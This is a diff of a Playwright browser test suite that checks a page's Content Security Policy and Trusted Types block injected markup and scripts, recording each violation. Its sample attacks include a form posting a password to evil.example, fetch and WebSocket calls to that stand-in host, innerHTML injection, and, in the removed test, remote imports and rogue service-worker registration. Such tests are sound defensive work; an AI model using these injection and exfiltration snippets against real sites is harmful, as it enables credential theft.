@@ -14,12 +14,8 @@ interface Kept {
 }
 
 /** Runs a scene in a page whose policy violations are expected: they are recorded and don't fail the test. */
-async function attacked(
-  { browser, sandbox }: SandboxStage,
-  scene: (page: Page) => Promise<void>,
-  serviceWorkers: 'allow' | 'block' = 'block',
-): Promise<void> {
-  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers });
+async function attacked({ browser, sandbox }: SandboxStage, scene: (page: Page) => Promise<void>): Promise<void> {
+  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers: 'block' });
   try {
     const page = await context.newPage();
     page.setDefaultTimeout(30_000);
@@ -56,7 +52,7 @@ const INJECTED = `
 <form id="evil-form" action="https://evil.example/steal" method="post"><input name="password" value="x"></form>
 </body>`;
 
-test('markup injected into the page does nothing', async (stage) => {
+test('markup injected into the page does nothing, and a script reaches no other host and writes no markup', async (stage) => {
   await attacked(stage, async (page) => {
     await page.route('**/login', async (route) => {
       const response = await route.fetch();
@@ -65,6 +61,21 @@ test('markup injected into the page does nothing', async (stage) => {
     await page.goto('/login');
     await page.locator('#evil-link').click();
     await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.submit());
+    await page.evaluate(() => {
+      // In a task of its own: the policy doesn't apply to the code that the test evaluates.
+      const attempts: readonly (() => unknown)[] = [
+        () => fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
+        () => new WebSocket('wss://evil.example/'),
+        () => Object.assign(document.body, { innerHTML: '<b>injected</b>' }),
+      ];
+      // In a task of its own: the policy doesn't apply to the code that the test evaluates.
+      for (const attempt of attempts)
+        setTimeout(() =>
+          Promise.resolve()
+            .then(attempt)
+            .catch(() => {}),
+        );
+    });
     for (const directive of [
       'base-uri',
       'script-src-elem',
@@ -74,75 +85,14 @@ test('markup injected into the page does nothing', async (stage) => {
       'object-src',
       'frame-src',
       'form-action',
+      'connect-src',
+      'require-trusted-types-for',
     ]) {
       await page.waitForFunction((name) => (window as unknown as Kept).violations.includes(name), directive);
     }
     assert.is(page.url(), `${stage.sandbox.origin}/login`);
     assert.is(await page.evaluate(() => document.baseURI), `${stage.sandbox.origin}/login`);
   });
-});
-
-test('an injected script can’t run text as code or reach another host', async (stage) => {
-  await attacked(
-    stage,
-    async (page) => {
-      await page.addInitScript(() => {
-        const types = Reflect.get(window, 'trustedTypes');
-        const make = types.createPolicy.bind(types);
-        types.createPolicy = (name: string, rules: object) =>
-          Object.assign(window, { policy: make(name, rules) }).policy;
-      });
-      await page.goto('/login');
-      await page.waitForFunction(() => 'policy' in window);
-      const allowed = await page.evaluate(async () => {
-        const { ran } = window as unknown as Kept;
-        const sink = document.body.appendChild(document.createElement('div'));
-        const script = () => document.createElement('script');
-        const types = Reflect.get(window, 'trustedTypes');
-        const policy = Reflect.get(window, 'policy');
-        const opened = (target: EventTarget) =>
-          new Promise((resolve, reject) => {
-            target.addEventListener('open', resolve);
-            target.addEventListener('error', reject);
-          });
-        const attempts: Record<string, () => unknown> = {
-          eval: () => Reflect.get(window, 'eval')('ran.push("eval")'),
-          // On purpose: the test fails unless the policy blocks this sink.
-          innerHTML: () => Object.assign(sink, { innerHTML: '<b>injected</b>' }),
-          'script address': () => document.head.append(Object.assign(script(), { src: '/assets/any.js' })),
-          'address by the app’s policy': () => {
-            if (String(policy.createScriptURL('/evil.js')) === '/service-worker.js') throw new Error('Not that one');
-          },
-          'other policy': () => types.createPolicy('evil', {}),
-          'second policy of the name': () => types.createPolicy('service-worker', {}),
-          'service worker': () => navigator.serviceWorker.register('/evil.js'),
-          import: () => import(String('https://evil.example/a.js')),
-          fetch: () => fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
-          socket: () => opened(new WebSocket('wss://evil.example/')),
-        };
-        const done: string[] = [];
-        for (const [name, attempt] of Object.entries(attempts)) {
-          // In a task of its own: the policy doesn't apply to the code that the test evaluates.
-          await new Promise<void>((resolve) => {
-            setTimeout(() =>
-              Promise.resolve()
-                .then(attempt)
-                .then(() => done.push(name))
-                .catch(() => {})
-                .then(() => resolve()),
-            );
-          });
-        }
-        try {
-          sink.setAttribute('onclick', 'ran.push("handler")');
-        } catch {}
-        sink.click();
-        return [...done, ...ran, ...sink.children];
-      });
-      assert.equal(allowed, []);
-    },
-    'allow',
-  );
 });
 
 test('a modified script doesn’t run, be it the core or the shell', async (stage) => {
